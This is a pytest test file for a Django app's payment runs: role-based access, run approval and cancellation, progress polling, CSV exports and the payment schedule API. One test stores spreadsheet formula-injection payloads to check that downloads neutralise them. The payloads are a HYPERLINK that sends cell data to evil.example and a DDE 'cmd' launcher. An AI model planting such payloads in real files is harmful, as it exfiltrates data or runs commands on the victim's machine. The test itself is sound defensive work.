"""Payment run pages and API: who may see and start runs, a run's progress and actions, the CSV
of its payouts (constant queries), and the payment schedule form and API."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test import Client, TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from influencer_ops.tenancy import dangerously_unscoped, db_scope
from organizations.models import Organization
from organizations.roles import Role
from payments.figures.checks import MONEY_FLOW_CHECKS, figures_violations
from payments.models import PaymentRun, PaymentSchedule, Payout, PayoutReason, PayoutState
from payments.runs import providers
from payments.runs.schedule import schedule_for
from tests.conftest import World, confirm_and_launch, login_client, make_payout
from tests.factories import member

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def figures_add_up_afterwards(request: pytest.FixtureRequest) -> Iterator[None]:
    """After every payment-run test, the figures audit's money-flow checks find nothing in any
    org: ledger, runs, reports, portal and delays agree whatever the test did."""
    yield
    uses_db = {"db", "transactional_db"} & set(request.fixturenames)
    if not uses_db and request.node.get_closest_marker("django_db") is None:
        return
    with dangerously_unscoped():
        orgs = list(Organization.objects.all())
    for organization in orgs:
        with db_scope(org_ids=[organization.pk]):
            found = figures_violations(organization=organization, checks=MONEY_FLOW_CHECKS)
        assert found == [], found


SLUG = "northwind"


def set_schedule(world: World, **fields: Any) -> None:
    schedule = schedule_for(organization=world.cast.org)
    PaymentSchedule.objects.filter(pk=schedule.pk).update(**fields)


@pytest.fixture
def due(world: World) -> World:
    """A launched program with two earned payouts; readiness is not required to pay."""
    confirm_and_launch(world)
    set_schedule(world, require_readiness=False)
    make_payout(world, "100.00", key="k1")
    make_payout(world, "50.00", key="k2", reason=PayoutReason.CLICKS)
    return world


def client(world: World, role: str) -> Client:
    return world.cast.client_for(role)


def post(c: Client, url: str, data: Any = None) -> Any:
    """A POST whose on-commit work (the eager run task) runs, as after a real commit."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return c.post(url, data or {})


def page_url(name: str, **kwargs: Any) -> str:
    return reverse(name, kwargs={"org_slug": SLUG, **kwargs})


def start_run(c: Client) -> Any:
    """Start a run as an admin does: open its preview, then confirm it."""
    preview = c.get(page_url("payment_run_preview"))
    fingerprint = preview.context["preview"].fingerprint
    return post(c, page_url("payment_run_preview"), {"fingerprint": fingerprint})


def api_url(path: str = "") -> str:
    return f"/api/v1/orgs/{SLUG}/payment-runs/{path}"


def open_run(world: World, state: str = PaymentRun.State.AWAITING_APPROVAL, **fields: Any) -> Any:
    return PaymentRun.objects.create(
        organization=world.cast.org,
        state=state,
        trigger=PaymentRun.Trigger.MANUAL,
        provider="sandbox",
        started_by=world.cast.members[Role.ADMIN].user,
        **fields,
    )


# --- who may see and start runs ---


@pytest.mark.parametrize("role", [Role.ANALYST, Role.BRAND_MANAGER, Role.APPROVER])
def test_it_requires_a_payouts_role_to_see_runs(due: World, role: str) -> None:
    assert client(due, role).get(page_url("payment_run_list")).status_code == 403
    assert client(due, role).get(api_url()).status_code == 403
    assert client(due, role).get(page_url("payment_schedule")).status_code == 403


@pytest.mark.parametrize("role", [Role.ANALYST, Role.BRAND_MANAGER, Role.ISM, Role.BSM])
def test_it_requires_an_admin_to_start_a_run(due: World, role: str) -> None:
    assert client(due, role).post(page_url("payment_run_preview")).status_code == 403
    assert client(due, role).post(api_url("start/")).status_code == 403
    assert not PaymentRun.objects.exists()


def test_an_ism_sees_runs_without_the_start_form(due: World) -> None:
    run = open_run(due)
    response = client(due, Role.ISM).get(page_url("payment_run_list"))
    assert response.status_code == 200
    body = response.content.decode()
    assert f"#{run.pk}" in body and "Next scheduled run" in body
    assert "Start a payment run</a>" not in body
    assert 'href="/orgs/northwind/payments/payouts/"' in body  # the nav link
    detail = client(due, Role.ISM).get(page_url("payment_run_detail", pk=run.pk))
    assert detail.status_code == 200 and "Approve the run" not in detail.content.decode()
    assert client(due, Role.ISM).get(api_url()).json()["count"] == 1


def test_outsider_gets_404(due: World) -> None:
    outsider = login_client(due.cast.outsider.user)
    assert outsider.get(page_url("payment_run_list")).status_code == 404
    assert outsider.get(api_url()).status_code == 404
    run = open_run(due)
    admin = client(due, Role.ADMIN)
    foreign = PaymentRun.objects.create(
        organization=due.cast.outsider_org, state="completed", trigger="manual", provider="sandbox"
    )
    for name in ("payment_run_detail", "payment_run_progress", "payment_run_csv"):
        assert admin.get(page_url(name, pk=foreign.pk)).status_code == 404
    assert (
        post(admin, page_url("payment_run_action", pk=foreign.pk, action="cancel")).status_code
        == 404
    )
    assert admin.get(api_url(f"{foreign.pk}/")).status_code == 404
    assert post(admin, api_url(f"{foreign.pk}/cancel/")).status_code == 404
    assert admin.get(api_url(f"{foreign.pk}/progress/")).status_code == 404
    assert outsider.get(f"/api/v1/orgs/acme/payment-runs/{run.pk}/").status_code == 404


# --- starting runs from the page ---


def test_an_admin_starts_a_run_that_pays_the_due_payouts(due: World) -> None:
    admin = client(due, Role.ADMIN)
    page = admin.get(page_url("payment_run_list")).content.decode()
    assert "Start a payment run</a>" in page
    response = start_run(admin)
    run = PaymentRun.objects.get()
    assert response.status_code == 302
    assert response["Location"] == page_url("payment_run_detail", pk=run.pk)
    assert run.state == PaymentRun.State.COMPLETED
    assert run.paid_count == 2 and run.total_count == 2
    assert set(Payout.objects.values_list("state", flat=True)) == {PayoutState.PAID}
    detail = admin.get(response["Location"]).content.decode()
    assert "Payouts done: 2 of 2 (100%)" in detail
    assert '<progress id="run-progress-bar"' in detail and 'value="100"' in detail
    assert "every 1s" not in detail  # done: no polling
    assert "150.00" in detail
    listing = admin.get(page_url("payment_run_list")).content.decode()
    assert "Completed" in listing and "2 paid" in listing


def test_the_run_page_says_what_a_failed_attempt_means(due: World) -> None:
    refused = Payout.objects.order_by("pk").first()
    providers.sandbox_fail(organization_id=due.cast.org.pk, payout_id=refused.pk)
    admin = client(due, Role.ADMIN)
    response = start_run(admin)
    run = PaymentRun.objects.get()
    assert run.state == PaymentRun.State.COMPLETED and run.failed_count == 1
    detail = admin.get(response["Location"]).content.decode()
    assert "1 attempt failed: that payout goes back to earned and is retried in the next run" in (
        " ".join(detail.split())
    )
    refused.refresh_from_db()
    assert refused.state == PayoutState.EARNED  # what the page says is what happened
    clean = PaymentRun.objects.filter(pk=run.pk)
    clean.update(failed_count=0)
    assert "attempt failed" not in admin.get(response["Location"]).content.decode()


def test_a_second_run_while_one_is_open_is_a_409(due: World) -> None:
    run = open_run(due)
    admin = client(due, Role.ADMIN)
    response = start_run(admin)
    assert response.status_code == 409
    assert 'role="alert"' in response.content.decode()
    assert PaymentRun.objects.get() == run
    api = post(admin, api_url("start/"))
    assert api.status_code == 409 and api.json()["detail"]


def test_a_run_over_the_threshold_needs_another_admin(due: World) -> None:
    set_schedule(due, approval_threshold=Decimal("100.00"))
    admin = client(due, Role.ADMIN)
    start_run(admin)
    run = PaymentRun.objects.get()
    assert run.state == PaymentRun.State.AWAITING_APPROVAL
    own = admin.get(page_url("payment_run_detail", pk=run.pk)).content.decode()
    assert "Approve the run" not in own and "Cancel the run" in own
    post(admin, page_url("payment_run_action", pk=run.pk, action="approve"))
    run.refresh_from_db()
    assert run.state == PaymentRun.State.AWAITING_APPROVAL  # refused: own run
    second = login_client(member(due.cast.org, Role.ADMIN, email="admin2@northwind.test").user)
    assert (
        "Approve the run" in second.get(page_url("payment_run_detail", pk=run.pk)).content.decode()
    )
    response = post(second, page_url("payment_run_action", pk=run.pk, action="approve"))
    assert response.status_code == 302
    run.refresh_from_db()
    assert run.state == PaymentRun.State.COMPLETED and run.approved_by is not None


def test_an_admin_cancels_a_run_awaiting_approval(due: World) -> None:
    set_schedule(due, approval_threshold=Decimal("10.00"))
    admin = client(due, Role.ADMIN)
    start_run(admin)
    run = PaymentRun.objects.get()
    assert (
        client(due, Role.ISM)
        .post(page_url("payment_run_action", pk=run.pk, action="cancel"))
        .status_code
        == 403
    )
    post(admin, page_url("payment_run_action", pk=run.pk, action="cancel"))
    run.refresh_from_db()
    assert run.state == PaymentRun.State.CANCELLED
    assert PaymentRun.objects.filter(state="cancelled").count() == 1


def test_a_csv_export_run_is_confirmed_and_its_file_downloaded(due: World) -> None:
    set_schedule(due, provider="csv_export")
    admin = client(due, Role.ADMIN)
    start_run(admin)
    run = PaymentRun.objects.get()
    assert run.state == PaymentRun.State.AWAITING_CONFIRMATION
    detail = admin.get(page_url("payment_run_detail", pk=run.pk)).content.decode()
    assert "Confirm the export was paid" in detail
    assert "Download the bank export file (CSV)" in detail
    export = admin.get(page_url("payment_run_export", pk=run.pk))
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    # The file carries full account numbers: admins only.
    assert (
        "bank export"
        not in client(due, Role.ISM).get(page_url("payment_run_detail", pk=run.pk)).content.decode()
    )
    assert client(due, Role.ISM).get(page_url("payment_run_export", pk=run.pk)).status_code == 403
    post(admin, page_url("payment_run_action", pk=run.pk, action="confirm"))
    run.refresh_from_db()
    assert run.state == PaymentRun.State.COMPLETED
    assert set(Payout.objects.values_list("state", flat=True)) == {PayoutState.PAID}


def test_a_bank_file_stored_before_the_shared_writer_downloads_without_formulas(
    due: World,
) -> None:
    """Runs exported before the CSV writer neutralised cells kept the raw names: the download
    neutralises them too; a plain (negative) number keeps its sign."""
    raw = (
        "payout_id,creator,account_name,amount\r\n"
        '7,"=HYPERLINK(""http://evil.example/?x=""&F3,""x"")",+1+cmd|\' /C calc\'!A0,-12.50\r\n'
    )
    run = PaymentRun.objects.create(
        organization=due.cast.org,
        state=PaymentRun.State.COMPLETED,
        trigger=PaymentRun.Trigger.MANUAL,
        provider="csv_export",
        export_file=raw,
    )
    response = client(due, Role.ADMIN).get(page_url("payment_run_export", pk=run.pk))
    assert response["Content-Disposition"] == (
        f'attachment; filename="payment-run-{run.pk}-export.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[1] == [
        "7",
        '\'=HYPERLINK("http://evil.example/?x="&F3,"x")',
        "'+1+cmd|' /C calc'!A0",
        "-12.50",
    ]


# --- progress ---


def test_the_progress_fragment_polls_while_processing(due: World) -> None:
    run = open_run(due, state=PaymentRun.State.PROCESSING, total_count=4, done_count=1)
    ism = client(due, Role.ISM)
    fragment = ism.get(page_url("payment_run_progress", pk=run.pk))
    body = fragment.content.decode()
    assert fragment.status_code == 200 and "<html" not in body
    assert 'hx-trigger="every 1s"' in body and 'value="25"' in body
    assert "Payouts done: 1 of 4 (25%)" in body
    assert "HX-Refresh" not in fragment
    PaymentRun.objects.filter(pk=run.pk).update(state="completed", done_count=4, paid_count=4)
    done = ism.get(page_url("payment_run_progress", pk=run.pk) + "?polling=1")
    assert "hx-trigger" not in done.content.decode() and 'value="100"' in done.content.decode()
    assert done["HX-Refresh"] == "true"
    api = ism.get(api_url(f"{run.pk}/progress/")).json()
    assert api["state"] == "completed" and api["percent"] == 100 and api["paid"] == 4


# --- the CSV of a run's payouts ---


def _run_with(world: World, count: int) -> PaymentRun:
    for n in range(count):
        make_payout(world, f"{10 + n}.00", key=f"csv-{count}-{n}")
    start_run(client(world, Role.ADMIN))
    return PaymentRun.objects.get(state="completed", total_count=count)


def _csv_queries(world: World, run: PaymentRun) -> tuple[list[list[str]], int]:
    ism = client(world, Role.ISM)
    ism.get(page_url("payment_run_list"))  # the session and its first queries
    with CaptureQueriesContext(connection) as queries:
        response = ism.get(page_url("payment_run_csv", pk=run.pk))
    assert response.status_code == 200
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="payment-run-{run.pk}-payouts.csv"'
    )
    return list(csv.reader(io.StringIO(response.content.decode()))), len(queries)


def test_the_csv_lists_every_payout_with_constant_queries(world: World) -> None:
    confirm_and_launch(world)
    set_schedule(world, require_readiness=False)
    small = _run_with(world, 2)
    rows, small_queries = _csv_queries(world, small)
    assert rows[0] == [
        "Payout",
        "Creator",
        "Program",
        "Reason",
        "Amount",
        "Currency",
        "State",
        "Idempotency key",
        "Paid at (UTC)",
        "Failure reason",
    ]
    assert len(rows) == 3
    payout = Payout.objects.filter(run=small).order_by("id").first()
    assert payout is not None
    row = rows[1]
    assert row[0] == str(payout.pk)
    assert row[1:4] == ["Cara Creator", "Spring Glow", PayoutReason.FLAT_FEE.label]
    assert row[4:7] == ["10.00", payout.currency, "Paid"]
    assert row[7] == payout.idempotency_key and row[8].startswith(str(payout.paid_at.year))
    big = _run_with(world, 20)
    rows, big_queries = _csv_queries(world, big)
    assert len(rows) == 21
    assert big_queries == small_queries


# --- the schedule ---


def test_viewers_read_the_schedule_and_only_admins_change_it(due: World) -> None:
    ism = client(due, Role.ISM)
    page = ism.get(page_url("payment_schedule")).content.decode()
    assert (
        "Only admins change the schedule." in page and '<form method="post" novalidate' not in page
    )
    assert ism.post(page_url("payment_schedule"), {"cadence": "weekly"}).status_code == 403
    assert (
        ism.patch(
            f"/api/v1/orgs/{SLUG}/payment-schedule/",
            {"cadence": "weekly"},
            content_type="application/json",
        ).status_code
        == 403
    )
    assert ism.get(f"/api/v1/orgs/{SLUG}/payment-schedule/").status_code == 200


def _schedule_form(**changes: Any) -> dict[str, Any]:
    return {
        "cadence": "weekly",
        "weekday": "4",
        "day_of_month": "1",
        "run_time": "10:30",
        "time_zone": "Europe/Berlin",
        "provider": "sandbox",
        "minimum_amount": "25.00",
        "approval_threshold": "",
        "require_readiness": "on",
        "max_failures": "3",
    } | changes


def test_an_admin_saves_the_schedule(due: World) -> None:
    admin = client(due, Role.ADMIN)
    assert "Save the schedule" in admin.get(page_url("payment_schedule")).content.decode()
    response = post(admin, page_url("payment_schedule"), _schedule_form())
    assert response.status_code == 302
    schedule = schedule_for(organization=due.cast.org)
    assert (schedule.cadence, schedule.weekday, schedule.time_zone) == (
        "weekly",
        4,
        "Europe/Berlin",
    )
    assert schedule.minimum_amount == Decimal("25.00") and schedule.approval_threshold is None
    assert schedule.next_run_at is not None
    assert schedule.next_run_at.astimezone(ZoneInfo("Europe/Berlin")).weekday() == 4


def test_an_invalid_schedule_shows_each_fields_error_and_saves_nothing(due: World) -> None:
    admin = client(due, Role.ADMIN)
    before = schedule_for(organization=due.cast.org)
    response = post(
        admin,
        page_url("payment_schedule"),
        _schedule_form(day_of_month="31", time_zone="Mars/Olympus", minimum_amount="-1"),
    )
    assert response.status_code == 400
    form = response.context["form"]
    assert {"day_of_month", "time_zone", "minimum_amount"} <= set(form.errors)
    after = schedule_for(organization=due.cast.org)
    assert (after.cadence, after.updated_at) == (before.cadence, before.updated_at)


def test_the_schedule_api(due: World) -> None:
    admin = client(due, Role.ADMIN)
    url = f"/api/v1/orgs/{SLUG}/payment-schedule/"
    data = admin.get(url).json()
    assert data["cadence"] == "monthly" and data["minimum_amount"] == "0.00"
    ok = admin.patch(
        url,
        {"cadence": "biweekly", "weekday": 2, "approval_threshold": "500"},
        content_type="application/json",
    )
    assert ok.status_code == 200, ok.json()
    assert ok.json()["approval_threshold"] == "500.00" and ok.json()["cadence"] == "biweekly"
    bad = admin.patch(
        url, {"time_zone": "Nowhere/Land", "max_failures": 99}, content_type="application/json"
    )
    assert bad.status_code == 400
    assert {"time_zone", "max_failures"} <= set(bad.json())
    outsider = login_client(due.cast.outsider.user)
    assert outsider.get(url).status_code == 404


# --- the API of runs ---


def test_the_api_starts_approves_and_reads_runs(due: World) -> None:
    set_schedule(due, approval_threshold=Decimal("100.00"))
    admin = client(due, Role.ADMIN)
    started = post(admin, api_url("start/"))
    assert started.status_code == 201, started.json()
    run = started.json()
    assert run["state"] == "awaiting_approval"
    assert run["totals"] == {due.enrollment.terms_version.snapshot["currency"]: "150.00"}
    assert run["started_by"]["email"] == "admin@northwind.test"
    assert post(admin, api_url("start/")).status_code == 409
    own = post(admin, api_url(f"{run['id']}/approve/"))
    assert own.status_code == 403 and "another admin" in own.json()["detail"]
    second = login_client(member(due.cast.org, Role.ADMIN, email="admin2@northwind.test").user)
    approved = post(second, api_url(f"{run['id']}/approve/"))
    assert approved.status_code == 200, approved.json()
    # The answer is written before the run's job runs (on commit); then it completes.
    assert approved.json()["state"] == "processing"
    assert approved.json()["approved_by"]["email"] == "admin2@northwind.test"
    assert admin.get(api_url(f"{run['id']}/")).json()["state"] == "completed"
    ism = client(due, Role.ISM)
    assert ism.post(api_url(f"{run['id']}/approve/")).status_code == 403
    listed = ism.get(api_url()).json()
    assert [r["id"] for r in listed["results"]] == [run["id"]]
    detail = ism.get(api_url(f"{run['id']}/")).json()
    assert detail["paid_count"] == 2 and detail["percent"] == 100
    progress = ism.get(api_url(f"{run['id']}/progress/")).json()
    assert progress["totals"] == run["totals"] and progress["done"] == 2


def test_the_api_cancels_and_confirms(due: World) -> None:
    set_schedule(due, provider="csv_export")
    admin = client(due, Role.ADMIN)
    assert post(admin, api_url("start/")).json()["state"] == "processing"
    run = admin.get(api_url(f"{PaymentRun.objects.get().pk}/")).json()
    assert run["state"] == "awaiting_confirmation" and run["has_export"] is True
    assert client(due, Role.BSM).post(api_url(f"{run['id']}/confirm/")).status_code == 403
    confirmed = post(admin, api_url(f"{run['id']}/confirm/"))
    assert confirmed.status_code == 200 and confirmed.json()["state"] == "completed"
    set_schedule(due, provider="sandbox", approval_threshold=Decimal("1.00"))
    make_payout(due, "20.00", key="k3")
    second = post(admin, api_url("start/")).json()
    cancelled = post(admin, api_url(f"{second['id']}/cancel/"))
    assert cancelled.status_code == 200 and cancelled.json()["state"] == "cancelled"
